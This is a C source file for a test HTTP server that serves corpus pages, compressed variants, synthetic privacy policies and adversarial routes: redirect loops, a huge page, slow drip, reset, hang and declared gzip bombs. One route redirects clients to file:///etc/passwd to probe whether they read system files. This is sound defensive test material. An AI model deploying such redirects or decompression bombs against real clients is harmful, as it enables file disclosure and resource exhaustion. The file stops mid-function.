/*
 * httpd: the test HTTP server, libmicrohttpd with a thread per connection
 * (see httpd.h for the routes).
 *
 * Each route is a function in the table at the end of this file.  What
 * waits (latency, /hang, /slow-drip) waits on one condition variable that
 * httpd_stop broadcasts, so that stopping never waits for a timeout.
 */

#include "config.h"

#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

#include <brotli/encode.h>
#include <curl/curl.h>
#include <microhttpd.h>
#include <zlib.h>

#include "digest.h"
#include "httpd.h"

#define HTML_TYPE "text/html; charset=utf-8"

/* Last-Modified of every /doc/N page: 2024-01-01T00:00:00Z. */
#define DOC_LAST_MODIFIED ((time_t)1704067200)

/* A quoted SHA-256 in hex, and its NUL. */
#define ETAG_SIZE (DIGEST_HEX_LEN + 3)

/* A request header, as the last request to a path sent it. */
struct header {
	char *name;
	char *value;
};

/* What one path received. */
struct path_log {
	char *path;
	unsigned hits;
	struct header *headers;	/* The last request's, in the order sent. */
	size_t nheaders;
};

/* A body given to httpd_put. */
struct put_doc {
	char *path;
	char *body;
	size_t len;
	char *content_type;
	char etag[ETAG_SIZE];
	time_t last_modified;
};

struct httpd {
	struct MHD_Daemon *daemon;
	char *corpus_dir;		/* Owned copy, or NULL. */
	unsigned latency_ms;
	unsigned short port;

	pthread_mutex_t lock;		/* Guards the members below it. */
	pthread_cond_t wake;		/* Broadcast once, when stopping. */
	int stopping;
	struct path_log *logs;
	size_t nlogs, logs_size;
	struct put_doc *docs;
	size_t ndocs, docs_size;
	unsigned total_hits;
	unsigned long long body_bytes;
	char log[256];			/* libmicrohttpd's last message. */

	/* The gzip bombs, built by the first request for one and then only
	 * read; bomb_lock orders that first write before every read. */
	pthread_mutex_t bomb_lock;
	char *bomb, *bomb_stacked;
	size_t bomb_len, bomb_stacked_len;
};

/* One request being answered. */
struct request {
	struct httpd *h;
	struct MHD_Connection *conn;
	const char *url;
	int head;			/* HEAD: no body goes out. */
};

/* A growing buffer of bytes; once an allocation fails it stays failed and
 * keeps nothing. */
struct text {
	char *s;
	size_t len, size;
	int failed;
};

/* Make room for n more bytes and a NUL.  Returns 0, or -1 (t failed). */
static int
text_reserve(struct text *t, size_t n)
{
	size_t size = t->size > 0 ? t->size : 4096;
	char *grown;

	if (t->failed)
		return -1;
	if (t->len + n + 1 <= t->size)
		return 0;
	while (t->len + n + 1 > size)
		size *= 2;
	grown = realloc(t->s, size);
	if (grown == NULL) {
		free(t->s);
		t->s = NULL;
		t->failed = 1;
		return -1;
	}
	t->s = grown;
	t->size = size;
	return 0;
}

static void
text_add(struct text *t, const void *data, size_t n)
{
	if (text_reserve(t, n) != 0)
		return;
	memcpy(t->s + t->len, data, n);
	t->len += n;
	t->s[t->len] = '\0';
}

static void text_printf(struct text *t, const char *fmt, ...)
	__attribute__((format(printf, 2, 3)));

static void
text_printf(struct text *t, const char *fmt, ...)
{
	va_list ap;
	int n;

	va_start(ap, fmt);
	n = vsnprintf(NULL, 0, fmt, ap);
	va_end(ap);
	if (n < 0) {
		free(t->s);
		t->s = NULL;
		t->failed = 1;
		return;
	}
	if (text_reserve(t, (size_t)n) != 0)
		return;
	va_start(ap, fmt);
	vsnprintf(t->s + t->len, (size_t)n + 1, fmt, ap);
	va_end(ap);
	t->len += (size_t)n;
}

/* Waiting that stopping interrupts. */

static int
is_stopping(struct httpd *h)
{
	int stopping;

	pthread_mutex_lock(&h->lock);
	stopping = h->stopping;
	pthread_mutex_unlock(&h->lock);
	return stopping;
}

/* Wait ms milliseconds, less if the server stops.  Returns 0, or -1 when
 * the server is stopping. */
static int
pause_ms(struct httpd *h, unsigned ms)
{
	struct timespec until;
	int stopping;

	clock_gettime(CLOCK_MONOTONIC, &until);
	until.tv_sec += ms / 1000;
	until.tv_nsec += (long)(ms % 1000) * 1000000L;
	if (until.tv_nsec >= 1000000000L) {
		until.tv_sec++;
		until.tv_nsec -= 1000000000L;
	}
	pthread_mutex_lock(&h->lock);
	while (!h->stopping && pthread_cond_timedwait(&h->wake, &h->lock, &until) != ETIMEDOUT)
		;
	stopping = h->stopping;
	pthread_mutex_unlock(&h->lock);
	return stopping ? -1 : 0;
}

static void
count_body(struct httpd *h, size_t n)
{
	pthread_mutex_lock(&h->lock);
	h->body_bytes += n;
	pthread_mutex_unlock(&h->lock);
}

/* Whether the client closed its end of the connection on socket fd. */
static int
peer_closed(int fd)
{
	struct pollfd p = { .fd = fd, .events = POLLIN };
	char c;
	ssize_t n;

	if (poll(&p, 1, 0) <= 0)
		return 0;
	if (p.revents & (POLLHUP | POLLERR))
		return 1;
	n = recv(fd, &c, 1, MSG_PEEK | MSG_DONTWAIT);
	return n == 0 || (n < 0 && errno != EAGAIN && errno != EWOULDBLOCK && errno != EINTR);
}

/* The record of requests. */

static void
headers_free(struct header *headers, size_t n)
{
	size_t i;

	for (i = 0; i < n; i++) {
		free(headers[i].name);
		free(headers[i].value);
	}
	free(headers);
}

/* The headers of a request, copied, while they are collected. */
struct header_list {
	struct header *items;
	size_t n, size;
	int failed;
};

static enum MHD_Result
collect_header(void *cls, enum MHD_ValueKind kind, const char *key, const char *value)
{
	struct header_list *l = cls;
	struct header *item;

	(void)kind;
	if (l->n == l->size) {
		size_t size = l->size > 0 ? l->size * 2 : 16;
		struct header *grown = realloc(l->items, size * sizeof(*grown));

		if (grown == NULL) {
			l->failed = 1;
			return MHD_NO;
		}
		l->items = grown;
		l->size = size;
	}
	item = &l->items[l->n];
	item->name = strdup(key);
	item->value = strdup(value != NULL ? value : "");
	if (item->name == NULL || item->value == NULL) {
		free(item->name);
		free(item->value);
		l->failed = 1;
		return MHD_NO;
	}
	l->n++;
	return MHD_YES;
}

/* The log of path, added if new; NULL when out of memory.  Lock held. */
static struct path_log *
log_of(struct httpd *h, const char *path, int add)
{
	struct path_log *log;
	size_t i;

	for (i = 0; i < h->nlogs; i++)
		if (strcmp(h->logs[i].path, path) == 0)
			return &h->logs[i];
	if (!add)
		return NULL;
	if (h->nlogs == h->logs_size) {
		size_t size = h->logs_size > 0 ? h->logs_size * 2 : 64;
		struct path_log *grown = realloc(h->logs, size * sizeof(*grown));

		if (grown == NULL)
			return NULL;
		h->logs = grown;
		h->logs_size = size;
	}
	log = &h->logs[h->nlogs];
	memset(log, 0, sizeof(*log));
	log->path = strdup(path);
	if (log->path == NULL)
		return NULL;
	h->nlogs++;
	return log;
}

/* Count a request to url and keep its headers.  Returns 0, or -1 when out
 * of memory. */
static int
record_request(struct httpd *h, struct MHD_Connection *conn, const char *url)
{
	struct header_list list = { 0 };
	struct path_log *log;

	MHD_get_connection_values(conn, MHD_HEADER_KIND, collect_header, &list);
	if (list.failed) {
		headers_free(list.items, list.n);
		return -1;
	}
	pthread_mutex_lock(&h->lock);
	log = log_of(h, url, 1);
	if (log != NULL) {
		log->hits++;
		headers_free(log->headers, log->nheaders);
		log->headers = list.items;
		log->nheaders = list.n;
		h->total_hits++;
	}
	pthread_mutex_unlock(&h->lock);
	if (log == NULL) {
		headers_free(list.items, list.n);
		return -1;
	}
	return 0;
}

/* Validators. */

/* The quoted hex SHA-256 of data, into etag.  Returns 0 or -1. */
static int
make_etag(const void *data, size_t len, char etag[ETAG_SIZE])
{
	char hex[DIGEST_HEX_LEN + 1];

	if (digest_sha256_hex(data, len, hex) != 0)
		return -1;
	snprintf(etag, ETAG_SIZE, "\"%s\"", hex);
	return 0;
}

/* t as an HTTP date (IMF-fixdate), whatever the locale. */
static void
http_date(time_t t, char *buf, size_t len)
{
	static const char days[7][4] = { "Sun", "Mon", "Tue", "Wed", "Thu", "Fri", "Sat" };
	static const char months[12][4] = { "Jan", "Feb", "Mar", "Apr", "May", "Jun",
					    "Jul", "Aug", "Sep", "Oct", "Nov", "Dec" };
	struct tm tm;

	if (gmtime_r(&t, &tm) == NULL) {
		snprintf(buf, len, "Thu, 01 Jan 1970 00:00:00 GMT");
		return;
	}
	snprintf(buf, len, "%s, %02d %s %04d %02d:%02d:%02d GMT", days[tm.tm_wday % 7],
		 tm.tm_mday, months[tm.tm_mon % 12], tm.tm_year + 1900, tm.tm_hour, tm.tm_min,
		 tm.tm_sec);
}

/* Whether the If-None-Match list holds etag ("*" holds every one; W/ is
 * ignored on both sides, the weak comparison that RFC 9110 asks for). */
static int
etag_listed(const char *list, const char *etag)
{
	size_t elen;

	if (strncmp(etag, "W/", 2) == 0)
		etag += 2;
	elen = strlen(etag);
	while (*list != '\0') {
		const char *end;

		while (*list == ' ' || *list == '\t' || *list == ',')
			list++;
		if (*list == '\0')
			break;
		if (*list == '*')
			return 1;
		if (strncmp(list, "W/", 2) == 0)
			list += 2;
		end = list;
		if (*end == '"') {
			end = strchr(end + 1, '"');
			end = end != NULL ? end + 1 : list + strlen(list);
		} else {
			while (*end != '\0' && *end != ',' && *end != ' ')
				end++;
		}
		if ((size_t)(end - list) == elen && strncmp(list, etag, elen) == 0)
			return 1;
		list = end;
	}
	return 0;
}

/* Whether the request's conditions say the client has this version:
 * If-None-Match decides when present, If-Modified-Since otherwise. */
static int
not_modified(struct request *rq, const char *etag, time_t last_modified)
{
	const char *inm, *ims;
	time_t since;

	inm = MHD_lookup_connection_value(rq->conn, MHD_HEADER_KIND,
					  MHD_HTTP_HEADER_IF_NONE_MATCH);
	if (inm != NULL)
		return etag_listed(inm, etag);
	ims = MHD_lookup_connection_value(rq->conn, MHD_HEADER_KIND,
					  MHD_HTTP_HEADER_IF_MODIFIED_SINCE);
	if (ims == NULL)
		return 0;
	since = curl_getdate(ims, NULL);
	return since != -1 && last_modified <= since;
}

/* Responses. */

/* Queue status with body (copied), content_type (NULL: none) and the extra
 * headers, name and value pairs ending with NULL. */
static enum MHD_Result
respond(struct request *rq, unsigned status, const void *body, size_t len,
	const char *content_type, const char *const *headers)
{
	struct MHD_Response *r;
	enum MHD_Result ret;

	r = MHD_create_response_from_buffer(len, (void *)body, MHD_RESPMEM_MUST_COPY);
	if (r == NULL)
		return MHD_NO;
	if (content_type != NULL)
		MHD_add_response_header(r, MHD_HTTP_HEADER_CONTENT_TYPE, content_type);
	for (; headers != NULL && headers[0] != NULL; headers += 2)
		MHD_add_response_header(r, headers[0], headers[1]);
	ret = MHD_queue_response(rq->conn, status, r);
	MHD_destroy_response(r);
	if (ret == MHD_YES && !rq->head)
		count_body(rq->h, len);
	return ret;
}

static enum MHD_Result
respond_html(struct request *rq, unsigned status, const char *html)
{
	return respond(rq, status, html, strlen(html), HTML_TYPE, NULL);
}

/* A small page that says what status it is. */
static enum MHD_Result
respond_status(struct request *rq, unsigned status, const char *why)
{
	char page[1024];

	snprintf(page, sizeof(page),
		 "<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>%u</title></head>"
		 "<body><h1>%u</h1><p>%s</p></body></html>\n", status, status, why);
	return respond_html(rq, status, page);
}

/* A document with its validators: 304 and no body when the client has it,
 * else 200 and body.  encoding: its Content-Encoding, or NULL. */
static enum MHD_Result
respond_document(struct request *rq, const char *body, size_t len, const char *content_type,
		 const char *etag, time_t last_modified, const char *encoding)
{
	const char *headers[] = { MHD_HTTP_HEADER_ETAG, etag, MHD_HTTP_HEADER_LAST_MODIFIED, NULL,
				  NULL, NULL, NULL, NULL, NULL };
	char date[64];

	http_date(last_modified, date, sizeof(date));
	headers[3] = date;
	if (encoding != NULL) {
		headers[4] = MHD_HTTP_HEADER_CONTENT_ENCODING;
		headers[5] = encoding;
		headers[6] = MHD_HTTP_HEADER_VARY;
		headers[7] = "Accept-Encoding";
	}
	if (not_modified(rq, etag, last_modified))
		return respond(rq, MHD_HTTP_NOT_MODIFIED, NULL, 0, NULL, headers);
	return respond(rq, MHD_HTTP_OK, body, len, content_type, headers);
}

/* A document whose ETag is the hash of its body. */
static enum MHD_Result
respond_hashed(struct request *rq, const char *body, size_t len, const char *content_type,
	       time_t last_modified, const char *encoding)
{
	char etag[ETAG_SIZE];

	if (make_etag(body, len, etag) != 0)
		return respond_status(rq, MHD_HTTP_INTERNAL_SERVER_ERROR, "cannot hash the body");
	return respond_document(rq, body, len, content_type, etag, last_modified, encoding);
}

/* The corpus and its compressed forms. */

/* Whether name may name a file of the corpus's html folder: no slash, no
 * leading dot, and .html at the end. */
static int
corpus_name_ok(const char *name)
{
	size_t n = strlen(name), i;

	if (n <= 5 || n > 200 || name[0] == '.' || strcmp(name + n - 5, ".html") != 0)
		return 0;
	for (i = 0; i < n; i++) {
		char c = name[i];

		if (!((c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9')
		      || c == '.' || c == '_' || c == '-'))
			return 0;
	}
	return 1;
}

/* The whole of the corpus page name, malloc'd, with its mtime; NULL with
 * errno set (ENOENT for a name that is not a corpus page). */
static char *
corpus_read(struct httpd *h, const char *name, size_t *len, time_t *mtime)
{
	struct text t = { 0 };
	struct stat st;
	char path[4096], chunk[65536];
	ssize_t n;
	int fd, saved;

	if (h->corpus_dir == NULL || !corpus_name_ok(name)) {
		errno = ENOENT;
		return NULL;
	}
	if ((size_t)snprintf(path, sizeof(path), "%s/html/%s", h->corpus_dir, name)
	    >= sizeof(path)) {
		errno = ENAMETOOLONG;
		return NULL;
	}
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return NULL;
	saved = fstat(fd, &st) != 0 ? errno : !S_ISREG(st.st_mode) ? ENOENT : 0;
	if (saved != 0) {
		close(fd);
		errno = saved;
		return NULL;
	}
	while ((n = read(fd, chunk, sizeof(chunk))) > 0)
		text_add(&t, chunk, (size_t)n);
	saved = errno;
	close(fd);
	if (n < 0 || t.failed) {
		free(t.s);
		errno = n < 0 ? saved : ENOMEM;
		return NULL;
	}
	if (t.s == NULL)
		text_add(&t, "", 0);
	*len = t.len;
	*mtime = st.st_mtime;
	return t.s;
}

/* Answer a failed corpus_read: 404 for a page that is not there, 500 with
 * the reason otherwise. */
static enum MHD_Result
respond_corpus_error(struct request *rq)
{
	char why[256];

	if (errno == ENOENT || errno == ENOTDIR)
		return respond_status(rq, MHD_HTTP_NOT_FOUND, "no such corpus page");
	snprintf(why, sizeof(why), "cannot read corpus page: %s", strerror(errno));
	return respond_status(rq, MHD_HTTP_INTERNAL_SERVER_ERROR, why);
}

static enum MHD_Result
serve_corpus(struct request *rq, const char *rest)
{
	enum MHD_Result ret;
	time_t mtime;
	size_t len;
	char *body = corpus_read(rq->h, rest, &len, &mtime);

	if (body == NULL)
		return respond_corpus_error(rq);
	ret = respond_hashed(rq, body, len, HTML_TYPE, mtime, NULL);
	free(body);
	return ret;
}

/* in compressed by zlib: gzip when gzip, else the zlib format that HTTP
 * calls deflate.  malloc'd, NULL on failure. */
static char *
zlib_compress(const char *in, size_t len, int gzip, int level, size_t *outlen)
{
	z_stream z;
	char *out;
	uLong bound;

	memset(&z, 0, sizeof(z));
	if (deflateInit2(&z, level, Z_DEFLATED, gzip ? 15 + 16 : 15, 8, Z_DEFAULT_STRATEGY) != Z_OK)
		return NULL;
	/* deflateBound leaves out the gzip header and trailer: 18 bytes. */
	bound = deflateBound(&z, (uLong)len) + 18;
	out = malloc(bound);
	if (out == NULL) {
		deflateEnd(&z);
		return NULL;
	}
	z.next_in = (Bytef *)in;
	z.avail_in = (uInt)len;
	z.next_out = (Bytef *)out;
	z.avail_out = (uInt)bound;
	if (deflate(&z, Z_FINISH) != Z_STREAM_END) {
		deflateEnd(&z);
		free(out);
		return NULL;
	}
	*outlen = z.total_out;
	deflateEnd(&z);
	return out;
}

static char *
brotli_compress(const char *in, size_t len, size_t *outlen)
{
	size_t size = BrotliEncoderMaxCompressedSize(len);
	char *out;

	if (size == 0)
		return NULL;
	out = malloc(size);
	if (out == NULL)
		return NULL;
	*outlen = size;
	/* Quality 5: a few ms a page where 11 would take seconds. */
	if (!BrotliEncoderCompress(5, BROTLI_DEFAULT_WINDOW, BROTLI_MODE_TEXT, len,
				   (const uint8_t *)in, outlen, (uint8_t *)out)) {
		free(out);
		return NULL;
	}
	return out;
}

/* The corpus page rest with Content-Encoding encoding. */
static enum MHD_Result
serve_encoded(struct request *rq, const char *rest, const char *encoding)
{
	enum MHD_Result ret;
	char *page, *packed;
	size_t len, packed_len = 0;
	time_t mtime;

	page = corpus_read(rq->h, rest, &len, &mtime);
	if (page == NULL)
		return respond_corpus_error(rq);
	if (strcmp(encoding, "br") == 0)
		packed = brotli_compress(page, len, &packed_len);
	else
		packed = zlib_compress(page, len, strcmp(encoding, "gzip") == 0, 6, &packed_len);
	free(page);
	if (packed == NULL)
		return respond_status(rq, MHD_HTTP_INTERNAL_SERVER_ERROR, "cannot compress the page");
	ret = respond_hashed(rq, packed, packed_len, HTML_TYPE, mtime, encoding);
	free(packed);
	return ret;
}

static enum MHD_Result
serve_gzip(struct request *rq, const char *rest)
{
	return serve_encoded(rq, rest, "gzip");
}

static enum MHD_Result
serve_deflate(struct request *rq, const char *rest)
{
	return serve_encoded(rq, rest, "deflate");
}

static enum MHD_Result
serve_br(struct request *rq, const char *rest)
{
	return serve_encoded(rq, rest, "br");
}

/* Synthetic documents. */

/* An integer in decimal, optionally negative, and nothing else.  Returns
 * 0, or -1 when s is not one or is out of range. */
static int
parse_integer(const char *s, long long *n)
{
	char *end;

	if (!(s[0] == '-' ? s[1] >= '0' && s[1] <= '9' : s[0] >= '0' && s[0] <= '9'))
		return -1;
	errno = 0;
	*n = strtoll(s, &end, 10);
	return errno == 0 && *end == '\0' ? 0 : -1;
}

/* The policy page of synthetic service n: headings, paragraphs and a list,
 * a few KB, every part of it chosen by n.  Fills t. */
static void
doc_page(long long n, struct text *t)
{
	static const char *const collect[] = {
		"We collect the content you provide when you use the Services, including "
		"prompts, uploads, files and the replies you rate.",
		"We collect information you give us directly, such as your name, email address, "
		"phone number and payment details, and the content of your messages.",
		"We automatically collect device information, log data, approximate location "
		"derived from your IP address, and cookies and similar technologies.",
		"We receive information about you from partners, including advertisers, data "
		"brokers and the services you connect to your account.",
		"We collect only what is necessary to provide the Services and delete raw "
		"inputs once a request is complete.",
	};
	static const char *const training[] = {
		"We may use your content to train and improve our models. You can opt out in "
		"your settings; even if you opt out, we may use conversations that you rate or "
		"that are flagged for safety review.",
		"We do not use your content to train our models unless you choose to share it "
		"with us through the feedback feature.",
		"We use your content to develop new products and services, to train machine "
		"learning models, and for research, and we may keep de-identified data for as "
		"long as we need it.",
		"Human reviewers may read a sample of conversations to improve the quality of "
		"the Services.",
	};
	static const char *const items[] = {
		"Account information, such as your name and email address.",
		"Content you submit, including text, images and audio.",
		"Usage information, such as the features you use and when.",
		"Device information, such as your browser and operating system.",
		"Location information, derived from your IP address.",
		"Payment information, handled by our payment processor.",
		"Communications with our support team.",
		"Information from third parties you connect to your account.",
	};
	static const char *const disputes[] = {
		"Any dispute arising from these terms will be resolved by binding individual "
		"arbitration, and you waive the right to take part in a class action.",
		"These terms are governed by the laws of Ireland, and the courts of Dublin have "
		"exclusive jurisdiction, without prejudice to your rights as a consumer.",
		"Our total liability to you for any claim is limited to the greater of the "
		"amount you paid us in the past twelve months or one hundred dollars.",
	};
	unsigned long long u = (unsigned long long)n;
	unsigned i;

	text_printf(t, "<!DOCTYPE html>\n<html lang=\"en\"><head><meta charset=\"utf-8\">\n"
		    "<title>Example Service %lld Privacy Policy</title></head>\n<body>\n"
		    "<nav><a href=\"/\">Home</a> | <a href=\"/terms\">Terms</a></nav>\n<main>\n"
		    "<h1>Example Service %lld Privacy Policy</h1>\n"
		    "<p>Effective date: %llu %s 20%02llu. This policy explains how Example "
		    "Service %lld (\"we\", \"us\") handles personal data.</p>\n",
		    n, n, 1 + u % 28, u % 2 ? "March" : "September", 20 + u % 6, n);
	text_printf(t, "<h2>1. Information we collect</h2>\n<p>%s</p>\n<ul>\n",
		    collect[u % 5]);
	for (i = 0; i < 8; i++)
		if ((u >> i) & 1 || i < 2)
			text_printf(t, "<li>%s</li>\n", items[(i + u) % 8]);
	text_printf(t, "</ul>\n<h2>2. How we use information</h2>\n<p>%s</p>\n"
		    "<p>We use information to provide, maintain and secure the Services, to "
		    "communicate with you, and to comply with the law.</p>\n",
		    training[(u / 5) % 4]);
	text_printf(t, "<h2>3. Sharing</h2>\n<p>We share information with service providers "
		    "who process it on our behalf, with affiliates of Example Service %lld, "
		    "and with public authorities when the law requires it.%s</p>\n", n,
		    u % 3 == 0 ? " We may also share information with advertising partners." : "");
	text_printf(t, "<h2>4. Retention</h2>\n<p>We keep your content for %llu days after "
		    "you delete it, and account information for as long as your account is "
		    "open.</p>\n", 30 + u % 365);
	text_printf(t, "<h2>5. Your rights</h2>\n<p>Depending on where you live, you may have "
		    "the right to access, correct, delete or port your personal data, and to "
		    "object to its processing. Write to privacy@service%lld.example to use "
		    "them.</p>\n", n);
	text_printf(t, "<h2>6. Disputes</h2>\n<p>%s</p>\n", disputes[(u / 20) % 3]);
	text_printf(t, "<h2>7. Cookies</h2>\n<p>We and our partners use cookies and similar "
		    "technologies for these purposes:</p>\n<ol>\n<li>Strictly necessary: to sign "
		    "you in and keep your session secure.</li>\n<li>Analytics: to understand how "
		    "the Services are used.</li>\n%s</ol>\n<p>You can refuse cookies that are not "
		    "strictly necessary in the cookie settings.</p>\n",
		    u % 4 == 0 ? "<li>Advertising: to show you ads that match your interests, "
				 "on our Services and elsewhere.</li>\n" : "");
	text_printf(t, "<h2>8. Children</h2>\n<p>The Services are not directed to children under "
		    "%u, and we do not knowingly collect their personal data. If you believe a "
		    "child has given us personal data, contact us and we will delete it.</p>\n",
		    u % 2 ? 13u : 16u);
	text_printf(t, "<h2>9. Security and transfers</h2>\n<p>We protect personal data with "
		    "technical and organisational measures, including encryption in transit and "
		    "at rest. We may transfer personal data to %s, relying on the European "
		    "Commission's standard contractual clauses where the law requires a "
		    "safeguard.</p>\n",
		    u % 3 == 1 ? "the United States" : "countries outside the European Economic Area");
	text_printf(t, "<h2>10. Changes to this policy</h2>\n<p>We may change this policy from "
		    "time to time. We will tell you about material changes %s.</p>\n"
		    "</main>\n<footer><p>&copy; Example Service %lld</p></footer>\n"
		    "</body></html>\n",
		    u % 2 ? "at least thirty days in advance" : "by posting the new version here", n);
}

static enum MHD_Result
respond_doc_page(struct request *rq, long long n)
{
	struct text t = { 0 };
	enum MHD_Result ret;

	doc_page(n, &t);
	if (t.failed)
		return MHD_NO;
	ret = respond_hashed(rq, t.s, t.len, HTML_TYPE, DOC_LAST_MODIFIED, NULL);
	free(t.s);
	return ret;
}

static enum MHD_Result
serve_doc(struct request *rq, const char *rest)
{
	long long n;

	if (parse_integer(rest, &n) != 0)
		return respond_status(rq, MHD_HTTP_NOT_FOUND, "no such document");
	return respond_doc_page(rq, n);
}

/* Paths given to httpd_put.  Returns MHD_YES or MHD_NO when path was put,
 * through *ret, and 1; 0 when it was not. */
static int
serve_put(struct request *rq, enum MHD_Result *ret)
{
	struct put_doc copy = { 0 };
	struct httpd *h = rq->h;
	size_t i;
	int found = 0, failed = 0;

	pthread_mutex_lock(&h->lock);
	for (i = 0; i < h->ndocs && !found; i++) {
		const struct put_doc *d = &h->docs[i];

		if (strcmp(d->path, rq->url) != 0)
			continue;
		found = 1;
		copy = *d;
		copy.body = malloc(d->len > 0 ? d->len : 1);
		copy.content_type = strdup(d->content_type);
		if (copy.body == NULL || copy.content_type == NULL)
			failed = 1;
		else
			memcpy(copy.body, d->body, d->len);
	}
	pthread_mutex_unlock(&h->lock);
	if (!found)
		return 0;
	*ret = failed ? MHD_NO
		      : respond_document(rq, copy.body, copy.len, copy.content_type, copy.etag,
					 copy.last_modified, NULL);
	free(copy.body);
	free(copy.content_type);
	return 1;
}

/* Redirects. */

static enum MHD_Result
respond_redirect(struct request *rq, const char *location)
{
	const char *headers[] = { MHD_HTTP_HEADER_LOCATION, location, NULL };
	char page[512];

	snprintf(page, sizeof(page), "<!DOCTYPE html>\n<html><body><p>Moved to %s</p></body></html>\n",
		 location);
	return respond(rq, MHD_HTTP_FOUND, page, strlen(page), HTML_TYPE, headers);
}

static enum MHD_Result
serve_redirect_loop(struct request *rq, const char *rest)
{
	char url[128];

	(void)rest;
	return respond_redirect(rq, httpd_url(rq->h, "/redirect/loop", url, sizeof(url)));
}

static enum MHD_Result
serve_redirect_chain(struct request *rq, const char *rest)
{
	char path[64], url[128];
	long long n;

	if (parse_integer(rest, &n) != 0 || n < 0 || n > 1000)
		return respond_status(rq, MHD_HTTP_NOT_FOUND, "a chain is 0 to 1000 hops long");
	if (n == 0)
		return respond_html(rq, MHD_HTTP_OK,
				    "<!DOCTYPE html>\n<html><body><p>The end of the chain.</p>"
				    "</body></html>\n");
	snprintf(path, sizeof(path), "/redirect/chain/%lld", n - 1);
	return respond_redirect(rq, httpd_url(rq->h, path, url, sizeof(url)));
}

static enum MHD_Result
serve_redirect_file(struct request *rq, const char *rest)
{
	(void)rest;
	return respond_redirect(rq, "file:///etc/passwd");
}

static enum MHD_Result
serve_redirect_ftp(struct request *rq, const char *rest)
{
	(void)rest;
	return respond_redirect(rq, "ftp://127.0.0.1/x");
}

/* Streamed bodies: /big, /slow-drip, /reset. */

/* What a content reader needs. */
struct stream {
	struct httpd *h;
	struct MHD_Connection *conn;	/* /reset: the connection to reset. */
};

static const char big_head[] = "<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\">"
			       "<title>A very large page</title></head><body>\n";
static const char big_line[] = "<p>This paragraph repeats until the page weighs fifty "
			       "mebibytes.</p>\n";
static const char big_tail[] = "</body></html>\n";

/* Bytes pos to pos + max of /big, into buf; returns how many. */
static size_t
big_fill(uint64_t pos, char *buf, size_t max)
{
	const uint64_t head = sizeof(big_head) - 1, line = sizeof(big_line) - 1;
	const uint64_t tail = sizeof(big_tail) - 1;
	const uint64_t middle = HTTPD_BIG_SIZE - head - tail;
	const uint64_t lines_end = head + middle / line * line;
	size_t n = 0;

	while (n < max && pos < HTTPD_BIG_SIZE) {
		const char *src;
		uint64_t avail;

		if (pos < head) {
			src = big_head + pos;
			avail = head - pos;
		} else if (pos < lines_end) {
			src = big_line + (pos - head) % line;
			avail = line - (pos - head) % line;
		} else if (pos < head + middle) {
			/* The remainder of the middle: spaces. */
			avail = head + middle - pos;
			if (avail > max - n)
				avail = max - n;
			memset(buf + n, ' ', (size_t)avail);
			n += (size_t)avail;
			pos += avail;
			continue;
		} else {
			src = big_tail + (pos - head - middle);
			avail = HTTPD_BIG_SIZE - pos;
		}
		if (avail > max - n)
			avail = max - n;
		memcpy(buf + n, src, (size_t)avail);
		n += (size_t)avail;
		pos += avail;
	}
	return n;
}

static ssize_t
read_big(void *cls, uint64_t pos, char *buf, size_t max)
{
	struct stream *s = cls;
	size_t n;

	if (is_stopping(s->h))
		return MHD_CONTENT_READER_END_WITH_ERROR;
	n = big_fill(pos, buf, max);
	if (n == 0)
		return MHD_CONTENT_READER_END_OF_STREAM;
	count_body(s->h, n);
	return (ssize_t)n;
}

static const char drip_text[] = "<!DOCTYPE html>\n<html><body><p>One byte a second. ";

static ssize_t
read_drip(void *cls, uint64_t pos, char *buf, size_t max)
{
	struct stream *s = cls;

	/* The first byte at once, so that the headers go out with it. */
	if (max == 0 || (pos > 0 && pause_ms(s->h, 1000) != 0))
		return MHD_CONTENT_READER_END_WITH_ERROR;
	buf[0] = drip_text[pos % (sizeof(drip_text) - 1)];
	count_body(s->h, 1);
	return 1;
}

static ssize_t
read_reset(void *cls, uint64_t pos, char *buf, size_t max)
{
	struct stream *s = cls;
	const union MHD_ConnectionInfo *ci;
	struct linger now = { .l_onoff = 1, .l_linger = 0 };
	size_t n;

	if (pos < HTTPD_RESET_SENT) {
		n = big_fill(pos, buf, HTTPD_RESET_SENT - pos < max ? HTTPD_RESET_SENT - pos : max);
		count_body(s->h, n);
		return (ssize_t)n;
	}
	/* Give the client time to read what was sent, then close with a zero
	 * linger so that the kernel sends a RST, not a FIN. */
	pause_ms(s->h, 100);
	ci = MHD_get_connection_info(s->conn, MHD_CONNECTION_INFO_CONNECTION_FD);
	if (ci != NULL)
		setsockopt(ci->connect_fd, SOL_SOCKET, SO_LINGER, &now, sizeof(now));
	return MHD_CONTENT_READER_END_WITH_ERROR;
}

/* Queue a streamed body of size bytes (MHD_SIZE_UNKNOWN: chunked) read
 * by reader. */
static enum MHD_Result
respond_stream(struct request *rq, uint64_t size, MHD_ContentReaderCallback reader)
{
	struct MHD_Response *r;
	struct stream *s = malloc(sizeof(*s));
	enum MHD_Result ret;

	if (s == NULL)
		return MHD_NO;
	s->h = rq->h;
	s->conn = rq->conn;
	r = MHD_create_response_from_callback(size, 16384, reader, s, free);
	if (r == NULL) {
		free(s);
		return MHD_NO;
	}
	MHD_add_response_header(r, MHD_HTTP_HEADER_CONTENT_TYPE, HTML_TYPE);
	ret = MHD_queue_response(rq->conn, MHD_HTTP_OK, r);
	MHD_destroy_response(r);
	return ret;
}

static enum MHD_Result
serve_big(struct request *rq, const char *rest)
{
	(void)rest;
	return respond_stream(rq, HTTPD_BIG_SIZE, read_big);
}

static enum MHD_Result
serve_slow_drip(struct request *rq, const char *rest)
{
	(void)rest;
	return respond_stream(rq, HTTPD_DRIP_SIZE, read_drip);
}

static enum MHD_Result
serve_reset(struct request *rq, const char *rest)
{
	(void)rest;
	return respond_stream(rq, HTTPD_RESET_LENGTH, read_reset);
}

/* Never answer: wait until the client goes or the server stops, then close
 * the connection without a word. */
static enum MHD_Result
serve_hang(struct request *rq, const char *rest)
{
	const union MHD_ConnectionInfo *ci;

	(void)rest;
	ci = MHD_get_connection_info(rq->conn, MHD_CONNECTION_INFO_CONNECTION_FD);
	while (pause_ms(rq->h, 100) == 0)
